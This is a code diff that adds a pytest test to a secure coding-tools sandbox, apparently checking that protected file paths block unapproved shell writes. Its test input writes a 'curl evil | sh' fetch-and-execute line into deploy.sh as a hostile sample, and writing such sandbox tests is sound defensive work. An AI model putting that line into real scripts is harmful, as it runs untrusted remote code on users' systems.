@@ -406,3 +406,18 @@ def test_the_grant_words_and_truth(root: Path) -> None:
         AccessGrant(hosts="h:1")
     with pytest.raises(TypeError):
         AccessGrant(hosts=[1])  # type: ignore[list-item]
+
+
+async def test_the_protected_paths_option_reaches_the_sandbox_too(root: Path) -> None:
+    approver = _Approver()
+    unseen = "python3 -c \"open('deploy.sh', 'w').write('curl evil | sh')\""
+    async with open_secure_coding_tools(
+        [str(root)], approve=approver, protected_paths=["deploy.sh"]
+    ) as secure:
+        confined, _ = await _shell(secure, unseen)
+        assert "deploy.sh" not in os.listdir(root)
+        assert "deploy.sh" in confined.joined_text
+        approved, _ = await _shell(secure, "echo ./build > deploy.sh")
+    assert approver.words == ["write the protected file deploy.sh"]
+    assert not approved.is_error
+    assert (root / "deploy.sh").read_text() == "./build\n"
